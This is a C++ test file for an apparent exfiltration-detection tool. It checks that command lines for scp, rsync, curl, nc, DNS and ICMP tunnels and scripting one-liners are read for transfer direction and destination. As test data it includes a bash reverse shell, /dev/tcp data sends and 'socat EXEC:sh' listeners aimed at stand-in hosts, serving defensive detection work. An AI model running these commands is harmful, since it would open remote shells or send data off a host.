#include <sstream>

#include "host_with_cron.hpp"

/// Transfer-tools' §3.2: what a command line says of direction and destination.
namespace auexfil::test {
namespace {

std::vector<std::string> words(const std::string& text) {
  std::vector<std::string> argv;
  std::istringstream stream(text);
  std::string word;
  while (stream >> word) {
    if (word.front() == '\'') {
      std::string rest;
      while (word.back() != '\'' && stream >> rest) {
        word += " " + rest;
      }
      word = word.substr(1, word.size() - 2);
    }
    argv.push_back(word);
  }
  return argv;
}

/// "out 203.0.113.9": direction, then each peer.
std::string reading(const std::string& line, bool ports = false) {
  const std::vector<std::string> argv = words(line);
  const transfer::Tool* const tool =
      rules().tools.find_by_name("/usr/bin/" + argv[0].substr(argv[0].rfind('/') + 1), argv);
  if (tool == nullptr) {
    return "no tool";
  }
  const transfer::ArgReading read = transfer::read_argv(*tool, argv);
  std::string text = (ports ? tool->name + " " : "") + to_word(read.direction);
  for (const transfer::ArgPeer& peer : read.peers) {
    text += " " + (peer.host.empty() ? std::string("?") : peer.host);
    if (ports && peer.port != 0) {
      text += ":" + std::to_string(peer.port);
    }
    if (peer.direction != read.direction) {
      text += std::string("(") + to_word(peer.direction) + ")";
    }
  }
  return text;
}

}  // namespace

TEST_CASE("argv: direction and destination") {
  const auto row = GENERATE(table<std::string, std::string>({
      {"scp a b host.example:p", "out host.example"},
      {"scp -P 2222 -i key f drop@203.0.113.9:up/", "out 203.0.113.9"},
      {"scp f drop@[2001:db8::9]:up/", "out 2001:db8::9"},
      {"scp f scp://u@host.example:2222/p", "out host.example"},
      {"scp host.example:p local", "in host.example"},
      {"scp A:p B:q", "both A(in) B(out)"},
      {"scp -3 A:f B:g", "both A(in) B(out)"},
      {"scp ./a:b host.example:", "out host.example"},
      {"scp a b", "unknown"},
      {"sftp -b F host.example", "unknown host.example"},
      {"sftp user@host.example", "unknown host.example"},
      {"sftp host.example:file", "in host.example"},
      {"ssh -x -s -- host.example sftp", "unknown host.example"},
      {"ssh host.example 'scp -t p'", "out host.example"},
      {"ssh host.example 'scp -f p'", "in host.example"},
      {"ssh -p 2222 -l u host.example 'cat > f'", "out host.example"},
      {"ssh u@host.example 'tar xf -'", "out host.example"},
      {"ssh host.example 'dd of=/srv/f'", "out host.example"},
      {"ssh host.example 'cat f'", "in host.example"},
      {"ssh host.example 'tar cf - d'", "in host.example"},
      {"ssh host.example rsync --server -logDtpr . d", "out host.example"},
      {"ssh host.example rsync --server --sender -logDtpr . d", "in host.example"},
      {"ssh host.example \'git-receive-pack repo\'", "out host.example"},
      {"ssh host.example \'git-upload-pack repo\'", "in host.example"},
      {"rsync -a d/ host.example:d", "out host.example"},
      {"rsync -a host.example:d /srv", "in host.example"},
      {"rsync host.example:d -a -e ssh /srv", "in host.example"},
      {"rsync -a f rsync://host.example/m", "out host.example"},
      {"rsync -a f host.example::m", "out host.example"},
      {"rsync -a --rsh ssh --exclude x d/ host.example:d", "out host.example"},
      {"rsync -a a/ b/", "unknown"},
      // An option whose value stands behind the target makes no download of an upload.
      {"rsync -a f host.example:d --write-batch b", "out host.example"},
      {"rclone copy /srv remote1:b --bwlimit 8M -v", "out remote1"},
      {"rclone copy /srv remote1:b --transfers 8", "out remote1"},
      {"rclone copy /srv remote1:b --sftp-unheard-of 8", "unknown remote1"},
      {"rclone copy remote1:b /srv --sftp-unheard-of 8", "in remote1"},
      {"rclone copy remote1:b /srv --progress", "in remote1"},
      {"aws s3 cp f s3://bucket --storage-class X", "out bucket"},
      {"aws --endpoint-url https://h.example s3 cp f s3://bucket --sse aws:kms", "out bucket"},
      {"aws s3 sync s3://bucket /srv --delete", "in bucket"},
      {"gsutil -h X:y cp f gs://bucket", "out bucket"},
      {"gcloud storage cp f gs://bucket --project p", "out bucket"},
      {"azcopy copy /srv https://h.example/c --from-to LocalBlob", "out h.example"},
      {"curl -T f https://host.example/f", "out host.example"},
      {"curl --upload-file f https://host.example/f", "out host.example"},
      {"curl -F x=@f https://host.example/", "out host.example"},
      {"curl -d @f https://host.example/", "out host.example"},
      {"curl -sS -o f https://host.example/", "in host.example"},
      {"curl -T f ftp://u:pw@203.0.113.9/f", "out 203.0.113.9"},
      {"curl -K -", "unknown"},
      {"wget --post-file=f http://host.example/", "out host.example"},
      {"wget http://host.example/f", "in host.example"},
      {"ftp -n host.example", "unknown host.example"},
      {"ftp -n server", "unknown server"},
      {"ftp -u ftp://u:pw@host.example/r f", "out host.example"},
      {"ftp -o f ftp://host.example/f", "in host.example"},
      {"ftp", "unknown"},
      {"tftp host.example -m binary -c put dump.bin r", "out host.example"},
      {"tftp server -c get dump.bin", "in server"},
      {"atftp --put -l f -r f host.example", "out host.example"},
      {"atftp --get -r f host.example 69", "in host.example"},
      {"ncftpput -u u -p pw host.example d f", "out host.example"},
      {"ncftpget host.example d f", "in host.example"},
      {"busybox ftpput -u u -p x host.example r l", "out host.example"},
      {"busybox tftp -p -l l -r r host.example", "out host.example"},
      {"lftp -e 'put f; quit' host.example", "out host.example"},
      {"lftp -c 'mirror -R d' host.example", "out host.example"},
      {"lftp -c 'mirror d' host.example", "unknown host.example"},
      {"nc -n 203.0.113.9 9000", "unknown 203.0.113.9"},
      {"nc -w 5 host.example 9000", "unknown host.example"},
      {"ncat --send-only host.example 9000", "unknown host.example"},
      {"nc -l 9000", "unknown"},
      {"socat -u FILE:f TCP:host.example:9000", "unknown host.example"},
      {"socat TCP-LISTEN:9000 EXEC:sh", "unknown"},
      {"pscp -batch f u@host.example:p", "out host.example"},
      {"psftp -b F u@host.example", "unknown host.example"},
      {"git push origin main", "out"},
      {"git fetch", "in"},
      {"aria2c https://host.example/f", "in host.example"},
  }));
  CAPTURE(std::get<0>(row));
  CHECK(reading(std::get<0>(row)) == std::get<1>(row));
}

TEST_CASE("argv: ports stand in arguments, in URLs, and go without saying for some schemes") {
  const auto row = GENERATE(table<std::string, std::string>({
      {"scp -P 2222 f u@203.0.113.9:up/", "scp out 203.0.113.9:2222"},
      {"scp -P2222 f u@203.0.113.9:up/", "scp out 203.0.113.9:2222"},
      {"scp -qP 2222 f u@203.0.113.9:up/", "scp out 203.0.113.9:2222"},
      {"scp -oPort=2222 f u@203.0.113.9:", "scp out 203.0.113.9:2222"},
      {"scp -o Port=2222 f u@203.0.113.9:", "scp out 203.0.113.9:2222"},
      {"scp -o 'port 2222' f u@203.0.113.9:", "scp out 203.0.113.9:2222"},
      {"scp f u@203.0.113.9:", "scp out 203.0.113.9"},  // ssh_config may set another
      {"scp f scp://u@h.example:2222/p", "scp out h.example:2222"},
      {"sftp -P 2222 u@203.0.113.9", "sftp unknown 203.0.113.9:2222"},
      {"sftp sftp://u@h.example:2222/p", "sftp unknown h.example:2222"},
      {"sftp -o HostName=203.0.113.9 alias", "sftp unknown 203.0.113.9"},
      {"ssh -p 2222 h.example 'cat > f'", "ssh out h.example:2222"},
      {"ssh -p2222 h.example 'cat > f'", "ssh out h.example:2222"},
      {"ssh h.example -p 2222 'cat > f'", "ssh out h.example:2222"},
      {"ssh h.example 'cat > f' -p 2222", "ssh out h.example"},
      {"ssh h.example tool -p 99", "ssh unknown h.example"},
      {"ssh ssh://u@h.example:2222 'cat > f'", "ssh out h.example:2222"},
      {"ssh -oHostName=203.0.113.9 alias 'cat > f'", "ssh out 203.0.113.9"},
      {"rsync -a f rsync://h.example:8730/m", "rsync out h.example:8730"},
      {"rsync -a f rsync://h.example/m", "rsync out h.example:873"},
      {"rsync -a f h.example::m", "rsync out h.example:873"},
      {"rsync -a --port=8730 f h.example::m", "rsync out h.example:8730"},
      {"rsync -a --port 8730 f h.example::m", "rsync out h.example:8730"},
      {"rsync -a -e 'ssh -p 2222' f h.example:d", "rsync out h.example:2222"},
      {"rsync -a --rsh 'ssh -oPort=2222' f h.example:d", "rsync out h.example:2222"},
      {"rsync -a f h.example:d", "rsync out h.example"},
      {"nc 203.0.113.9 9001", "nc unknown 203.0.113.9:9001"},
      {"nc -N -w 5 203.0.113.9 9001", "nc unknown 203.0.113.9:9001"},
      {"nc 2001:db8::9 9001", "nc unknown 2001:db8::9:9001"},
      {"socat - TCP4:203.0.113.9:9001", "socat unknown 203.0.113.9:9001"},
      {"socat - tcp6:[2001:db8::9]:9001", "socat unknown 2001:db8::9:9001"},
      {"ftp -n 203.0.113.9 2121", "ftp unknown 203.0.113.9:2121"},
      {"ftp -n 203.0.113.9", "ftp unknown 203.0.113.9:21"},
      {"ftp -u ftp://h.example:2121/r f", "ftp out h.example:2121"},
      {"ncftpput -P 2121 h.example d f", "ncftpput out h.example:2121"},
      {"ncftpput h.example 2024 f", "ncftpput out h.example:21"},
      {"lftp -p 2121 -e 'put f' h.example", "lftp out h.example:2121"},
      {"lftp -c 'open sftp://u@h.example:2222; put f'", "lftp out h.example:2222"},
      {"atftp --put -l f -r f 203.0.113.9 6969", "atftp out 203.0.113.9:6969"},
      {"tftp 203.0.113.9 -c put f", "tftp out 203.0.113.9:69"},
      {"curl -T f http://h.example:8080/", "curl out h.example:8080"},
      {"curl -T f http://h.example/", "curl out h.example:80"},
      {"curl -T f HTTPS://h.example/", "curl out h.example:443"},
      {"curl -T f h.example:8080/up", "curl out h.example:8080"},
      {"curl -Tf https://h.example/", "curl out h.example:443"},
      {"curl -sTf https://h.example/", "curl out h.example:443"},
      {"curl -Fx=@f https://h.example/", "curl out h.example:443"},
      {"curl -d@f https://h.example/", "curl out h.example:443"},
      {"curl -XPUT https://h.example/", "curl out h.example:443"},
      {"curl -oindex https://h.example/", "curl in h.example:443"},
      {"curl -H 'Referer: https://other.example/' -T f https://h.example/",
       "curl out h.example:443"},
      {"curl --proxy http://proxy.example:3128 -T f https://h.example/", "curl out h.example:443"},
      {"curl -T f file:///srv/f", "curl out"},
      {"wget --header 'Referer: http://other.example/' http://h.example:81/",
       "wget in h.example:81"},
      {"openssl s_client -connect 203.0.113.9:4433", "openssl unknown 203.0.113.9:4433"},
      {"openssl s_client -quiet 203.0.113.9:4433", "openssl unknown 203.0.113.9:4433"},
      {"openssl enc -aes-256-cbc -in f -out g", "openssl unknown"},
      {"gnutls-cli -p 4433 h.example", "gnutls-cli unknown h.example:4433"},
      {"telnet h.example 2323", "telnet unknown h.example:2323"},
      {"telnet h.example", "telnet unknown h.example:23"},
      {"pscp -P 2222 f u@h.example:p", "pscp out h.example:2222"},
  }));
  CAPTURE(std::get<0>(row));
  CHECK(reading(std::get<0>(row), true) == std::get<1>(row));
}

TEST_CASE("argv: addresses as inet_aton reads them, and what goes to no other host") {
  const auto row = GENERATE(table<std::string, std::string>({
      {"curl -T f http://127.1/", "out 127.0.0.1"},
      {"curl -T f http://0x7f.1/", "out 127.0.0.1"},
      {"curl -T f http://2130706433/", "out 127.0.0.1"},
      {"curl -T f http://0177.0.0.1:81/", "out 127.0.0.1"},
      {"curl -T f http://0xcb007109/", "out 203.0.113.9"},
      {"curl -T f http://203.113/", "out 203.0.0.113"},
      {"scp f 3405803785:up/", "out 203.0.113.9"},
      {"curl -T f http://1.2.3.4.5/", "out 1.2.3.4.5"},
      {"curl -T f http://256.1.1.1/", "out 256.1.1.1"},
      {"curl -T f http://300.1/", "out 300.1"},
      {"curl -T f http://09.1/", "out 09.1"},
      {"curl -T f http://[::1%lo]/", "out ::1%lo"},
      {"curl --unix-socket /run/docker.sock -X POST http://docker/v1", "out"},
      {"curl --unix-socket=/run/docker.sock -T f http://docker/v1", "out"},
      {"curl --abstract-unix-socket agent http://agent.local/api", "in"},
      {"curl -d 'x --unix-socket y' https://h.example/", "unknown h.example"},
      {"nc -U /run/x.sock 9000", "unknown"},
      {"nc -NU /run/x.sock 9000", "unknown"},
      {"nc -l 203.0.113.1 9000", "unknown"},
      {"nc -zv 203.0.113.1 9000", "unknown"},
      {"socat - UNIX-CONNECT:/run/x.sock", "unknown"},
      {"socat - ABSTRACT-CONNECT:x", "unknown"},
      {"docker -H unix:///run/docker.sock push reg.example/x", "out reg.example"},
  }));
  CAPTURE(std::get<0>(row));
  CHECK(reading(std::get<0>(row)) == std::get<1>(row));
}

TEST_CASE("argv: the names and addresses of this host") {
  const auto row = GENERATE(table<std::string, bool>({
      {"127.0.0.1", true},
      {"127.9.9.9", true},
      {"0.0.0.0", true},
      {"::", true},
      {"::1", true},
      {"::1%lo", true},
      {"::ffff:127.0.0.1", true},
      {"localhost", true},
      {"LocalHost.", true},
      {"localhost.localdomain", true},
      {"localhost6", true},
      {"x.localhost", true},
      {"ip6-localhost", true},
      {"ip6-loopback", true},
      {"localhost.example.org", false},
      {"mylocalhost", false},
      {"128.0.0.1", false},
      {"", false},
  }));
  CAPTURE(std::get<0>(row));
  CHECK(transfer::is_this_host(std::get<0>(row)) == std::get<1>(row));
}

TEST_CASE("argv: tools that are told by their command lines alone") {
  const auto row = GENERATE(table<std::string, std::string>({
      {"git push https://u@h.example/r.git main", "git out h.example:443"},
      {"git -C /srv push ssh://git@h.example:2222/r", "git out h.example:2222"},
      {"git push git@h.example:r main", "git out h.example"},
      {"git push origin HEAD:refs/heads/x", "git out"},
      {"git commit -m 'see https://h.example/'", "git unknown"},
      {"git-remote-https origin https://h.example/r", "git unknown h.example:443"},
      {"restic -r sftp:u@h.example:/srv backup /etc", "restic out h.example"},
      {"restic -r rest:https://u:p@h.example:8000/ backup /etc", "restic out h.example:8000"},
      {"restic --repo s3:s3.example.com/b backup /etc", "restic out s3.example.com"},
      {"restic backup /etc", "restic out ?"},
      {"restic -r /mnt/repo backup /etc", "restic unknown"},
      {"restic snapshots", "no tool"},
      {"borg create ssh://u@h.example:2222/./r::a /etc", "borg out h.example:2222"},
      {"borg create u@h.example:r::a /etc", "borg out h.example"},
      {"borg create /mnt/r::a /etc", "borg out"},
      {"python3 /usr/bin/borg create u@h.example:r::a /etc", "borg out h.example"},
      {"duplicity /etc sftp://u@h.example/d", "duplicity out h.example:22"},
      {"duplicity full --encrypt-key K /etc ftp://u@h.example/d", "duplicity out h.example:21"},
      {"duplicity sftp://u@h.example/d /etc", "duplicity in h.example:22"},
      {"duplicity /etc file:///mnt/d", "duplicity unknown"},
      {"kopia snapshot create /etc", "kopia out ?"},
      {"kopia repository sync-to sftp --host=h.example --port=2222", "kopia out h.example:2222"},
      {"mega-put f /up", "mega out mega.nz"},
      {"megaput --path /up f", "mega out mega.nz"},
      {"mc cp f store/bucket/f", "mc out ?"},
      {"mc cp store/bucket/f ./f", "mc in"},
      {"mc /srv /home", "no tool"},
      {"swift -A https://h.example:5000/v3 upload c f", "swift out h.example:5000"},
      {"swift build", "no tool"},
      {"b2 upload-file bucket f f", "b2 out api.backblazeb2.com"},
      {"gcloud storage cp f gs://bucket/", "gcloud out bucket"},
      {"gcloud compute instances list", "no tool"},
      {"az storage blob upload -f f -c c", "az out blob.core.windows.net"},
      {"az vm list", "no tool"},
      {"croc send f", "magic-wormhole out ?"},
      {"croc --relay h.example:9009 send f", "magic-wormhole out h.example:9009"},
      {"wormhole send f", "magic-wormhole out ?"},
      {"wormhole receive 7-x-y", "magic-wormhole in"},
      {"smbclient //h.example/s -U u -c 'put f'", "smbclient out h.example"},
      {"smbclient -p 4450 //h.example/s -c 'get f'", "smbclient in h.example:4450"},
      {"mutt -s x -a f -- u@mail.example", "mutt out mail.example"},
      {"mutt -f box", "no tool"},
      {"mail -A f u@mail.example", "mail out mail.example"},
      {"mail -s subject u@mail.example", "no tool"},
      {"mail -u alice", "no tool"},
      {"swaks --to u@mail.example --server h.example:2525 --attach @f", "swaks out h.example:2525"},
      {"docker push reg.example:5000/x", "docker out reg.example:5000"},
      {"docker push localhost:5000/x", "docker out localhost:5000"},
      {"docker push me/x", "docker out docker.io"},
      {"docker run x push", "no tool"},
      {"podman push x docker://reg.example/x", "docker out reg.example"},
      {"docker ps", "no tool"},
      {"kubectl cp f ns/pod:/tmp/f", "kubectl out ?"},
      {"kubectl cp ns/pod:/tmp/f f", "kubectl in"},
      {"kubectl get pods", "no tool"},
      {"twine upload dist/x", "twine out upload.pypi.org"},
      {"twine upload --repository-url https://h.example/p dist/x", "twine out h.example:443"},
      {"python3 -m twine upload dist/x", "twine out upload.pypi.org"},
      {"npm publish --registry https://h.example:4873/", "npm out h.example:4873"},
      {"npm publish", "npm out registry.npmjs.org"},
      {"npm install", "no tool"},
      {"npm install publish", "no tool"},
      {"tar cf u@h.example:/x d", "tar out h.example"},
      {"tar czvf h.example:/x d", "tar out h.example"},
      {"tar -czf h.example:/x d", "tar out h.example"},
      {"tar --create --file=h.example:/x d", "tar out h.example"},
      {"tar xf h.example:/x", "tar in h.example"},
      {"tar cf a:b --force-local d", "no tool"},
      {"tar cf /srv/a:b d", "no tool"},
      {"tar cf - d", "no tool"},
      {"sz f", "zmodem out ?"},
      {"iodine -f -P x 203.0.113.9 t.example", "iodine out 203.0.113.9:53"},
      {"iodine t.example", "iodine out t.example:53"},
      {"dnscat2 --dns server=203.0.113.9,port=5353", "dnscat out 203.0.113.9:5353"},
      {"ptunnel -p 203.0.113.9 -lp 8000 -da 203.0.113.7 -dp 22", "ptunnel out 203.0.113.9"},
      {"rclone copy f :sftp,host=h.example,port=2222,user=u:up", "rclone out h.example:2222"},
  }));
  CAPTURE(std::get<0>(row));
  CHECK(reading(std::get<0>(row), true) == std::get<1>(row));
}

TEST_CASE("argv: programs in an argument") {
  const auto row = GENERATE(table<std::vector<std::string>, std::string>({
      {{"bash", "-c", "cat f > /dev/tcp/203.0.113.9/9001"}, "dev-tcp out 203.0.113.9:9001"},
      {{"bash", "-c", "cat f >/dev/udp/h.example/53"}, "dev-tcp out h.example:53"},
      {{"bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1"}, "dev-tcp out 203.0.113.9:443"},
      {{"bash", "-c", "exec 3<>/dev/tcp/203.0.113.9/80; cat f >&3"},
       "dev-tcp unknown 203.0.113.9:80"},
      {{"bash", "-c", "cat < /dev/tcp/203.0.113.9/80 > f"}, "dev-tcp in 203.0.113.9:80"},
      {{"bash", "-c", "echo /dev/tcp"}, "no tool"},
      {{"bash", "-c", "echo /dev/tcp/203.0.113.9/80"}, "no tool"},
      {{"bash", "-c", "ls > /dev/null"}, "no tool"},
      {{"bash", "x.sh"}, "no tool"},
      {{"gawk", "BEGIN { print \"x\" |& \"/inet/tcp/0/203.0.113.9/9001\" }"},
       "dev-tcp unknown 203.0.113.9:9001"},
      {{"python3", "-c", "import ftplib; f=ftplib.FTP('203.0.113.9'); f.storbinary('STOR x',o)"},
       "python out 203.0.113.9"},
      {{"python3", "-c",
        "import requests; requests.post('https://h.example/up', data=open('f','rb'))"},
       "python out h.example:443"},
      {{"python3.11", "-c",
        "import socket; s=socket.socket(); s.connect(('203.0.113.9', 9001)); "
        "s.sendall(b'x')"},
       "python out 203.0.113.9:9001"},
      {{"python3", "-c", "import http.client as h; c=h.HTTPSConnection(\"h.example\", 8443)"},
       "python unknown h.example:8443"},
      {{"python3", "-c", "import paramiko; t=paramiko.Transport(('h.example',2222))"},
       "python unknown h.example:2222"},
      {{"python3", "-c", "import urllib.request as u; u.urlretrieve('http://h.example:81/x','x')"},
       "python in h.example:81"},
      {{"python3", "-c", "import sys,ftplib; f=ftplib.FTP(sys.argv[1]); f.storbinary('STOR x',o)"},
       "python out ?"},
      {{"python3", "-m", "ftplib", "h.example"}, "python unknown h.example"},
      {{"python3", "-c", "print('https://h.example/')"}, "no tool"},
      {{"python3", "-c", "import socket; print(socket.gethostname())"}, "python unknown"},
      {{"python3", "-m", "http.server", "8000"}, "no tool"},
      {{"python3", "x.py", "-c", "import requests"}, "no tool"},
      {{"perl", "-MNet::FTP", "-e", "$f=Net::FTP->new('203.0.113.9', Port=>2121); $f->put('f')"},
       "perl out 203.0.113.9"},
      {{"perl", "-e",
        "use Net::SFTP::Foreign; $s=Net::SFTP::Foreign->new(\"h.example\"); "
        "$s->put('f')"},
       "perl out h.example"},
      {{"perl", "-e",
        "use IO::Socket; $s=IO::Socket::INET->new(PeerAddr=>'203.0.113.9', "
        "PeerPort=>9001); print $s 'x'"},
       "perl out 203.0.113.9:9001"},
      {{"perl", "-pe", "s/a/b/"}, "no tool"},
      {{"php", "-r", "$c=ftp_connect('203.0.113.9', 2121); ftp_put($c,'r','f',2);"},
       "php out 203.0.113.9:2121"},
      {{"php", "-r", "file_put_contents('ftp://u:p@h.example/f', 'x');"}, "php out h.example:21"},
      {{"php", "-r", "echo 1;"}, "no tool"},
      {{"ruby", "-rnet/ftp", "-e", "Net::FTP.open('203.0.113.9') { |f| f.putbinaryfile('f') }"},
       "ruby out 203.0.113.9"},
      {{"ruby", "-rsocket", "-e", "TCPSocket.new('203.0.113.9', 9001).write('x')"},
       "ruby out 203.0.113.9:9001"},
      {{"ruby", "-e", "puts 1"}, "no tool"},
      {{"node", "-e", "fetch('https://h.example/', {method: 'POST', body: x})"},
       "node out h.example:443"},
      {{"node", "-e", "console.log(1)"}, "no tool"},
      {{"sh", "-c", "mail -s x u@mail.example < /srv/f"}, "mail-file out mail.example"},
      {{"sh", "-c", "sendmail u@mail.example </srv/f"}, "mail-file out mail.example"},
      {{"sh", "-c", "mail -s x u@mail.example"}, "no tool"},
  }));
  const auto& [argv, wanted] = row;
  CAPTURE(argv);
  const transfer::Tool* const tool = rules().tools.find_by_name("/usr/bin/" + argv[0], argv);
  std::string got = "no tool";
  if (tool != nullptr) {
    const transfer::ArgReading read = transfer::read_argv(*tool, argv);
    got = tool->name + " " + to_word(read.direction);
    for (const transfer::ArgPeer& peer : read.peers) {
      got += " " + (peer.host.empty() ? std::string("?") : peer.host) +
             (peer.port != 0 ? ":" + std::to_string(peer.port) : std::string{});
    }
  }
  CHECK(got == wanted);
}

TEST_CASE("argv: a tool under another name is known by the shape of its arguments") {
  const auto row = GENERATE(table<std::string, std::string>({
      {"update-agent -s -T /srv/d ftp://203.0.113.9/u", "curl"},
      {"x --upload-file f https://host.example/", "curl"},
      {"/opt/x/rsync --daemon --no-detach", "rsync-server"},
      {"python3 -m http.server", "-"},
  }));
  CAPTURE(std::get<0>(row));
  const transfer::Tool* const tool = rules().tools.find_by_shape(words(std::get<0>(row)));
  CHECK((tool == nullptr ? "-" : tool->name) == std::get<1>(row));
}

TEST_CASE("argv: what a wrapper runs is not the wrapper") {
  const auto line = GENERATE(values<std::string>({
      "sh -c 'curl -T f http://203.0.113.9/'",
      "timeout 60 curl -T f http://203.0.113.9/",
      "su - alice -c 'curl -T f http://203.0.113.9/'",
      "watch curl -T f http://203.0.113.9/",
      "python3 -c 'x -T f http://203.0.113.9/'",
  }));
  CAPTURE(line);
  Log log;
  log.audited = only({"execve"});
  log.fork(1, 900);
  const std::vector<std::string> argv = words(line);
  log.exec(900, "/usr/bin/" + argv[0], argv);
  CHECK(tell(log).empty());
}

TEST_CASE("tools: every mistake is told with its line") {
  const input::RuleFile file = input::parse_rule_file(
      "[tool a]\nprogram = a\ngrammer = copy\n"
      "[tool b]\nprogram = b\ngrammar = dance\nfloor = 3 apples\n"
      "[tool c]\nfloor = 4KiB\n"
      "[tool d]\nprogram = d\nside = middle\ncontrol = 70000\ntransport = pigeon\nnature = up\n"
      "[lookup e]\nports = 53\n"
      "[control f]\nport = 21\ndata = 20, 9-8, x, 1-70000\ntransport = pigeon\n"
      "[control g]\ndata = 20\nprot = 21\n",
      "tools.conf");
  REQUIRE(file.mistakes.empty());
  std::vector<input::Mistake> mistakes;
  static_cast<void>(transfer::Tools::load(file.sections, mistakes));
  std::vector<int> lines;
  for (const input::Mistake& mistake : mistakes) {
    lines.push_back(mistake.line);
  }
  CHECK(lines == std::vector<int>{3, 6, 7, 8, 12, 13, 14, 15, 17, 20, 20, 20, 21, 24, 22});
}

TEST_CASE("tools: which ports carry the data of a control connection") {
  const input::RuleFile file = input::parse_rule_file(
      "[control a]\nport = 10\ndata = 5, 100-200\n"
      "[control b]\nport = 20\ntransport = udp\n"
      "[tool own]\nprogram = own\ncontrol = 11\n[tool none]\nprogram = none\n",
      "tools.conf");
  std::vector<input::Mistake> mistakes;
  const transfer::Tools tools = transfer::Tools::load(file.sections, mistakes);
  REQUIRE(mistakes.empty());
  using To = transfer::Tools::To;
  const auto [name, control, data, is_data] = GENERATE(table<const char*, To, To, bool>({
      {nullptr, {10, false}, {5, false}, true},
      {nullptr, {10, false}, {100, false}, true},
      {nullptr, {10, false}, {200, false}, true},
      {nullptr, {10, false}, {201, false}, false},
      {nullptr, {10, false}, {6, false}, false},
      {nullptr, {11, false}, {150, false}, false},
      {"none", {10, false}, {150, false}, true},
      {"own", {10, false}, {150, false}, false},  // its own stand in place of the others
      {"own", {11, false}, {150, false}, true},
      {"own", {11, false}, {99, false}, false},
      {nullptr, {20, true}, {9, true}, true},
      {"own", {20, true}, {9, true}, true},
      {nullptr, {20, true}, {9, false}, false},
      {nullptr, {20, false}, {9, true}, false},
  }));
  CAPTURE(name == nullptr ? "-" : name, control.port, data.port);
  const transfer::Tool* const tool = name == nullptr ? nullptr : tools.find(name);
  CHECK(tools.is_data_of(tool, control, data) == is_data);
  CHECK(tools.is_control(nullptr, 10));
  CHECK_FALSE(tools.is_control(nullptr, 20));  // of datagrams
  CHECK(tools.is_control(tools.find("own"), 11));
  CHECK_FALSE(tools.is_control(tools.find("own"), 10));
}

}  // namespace auexfil::test
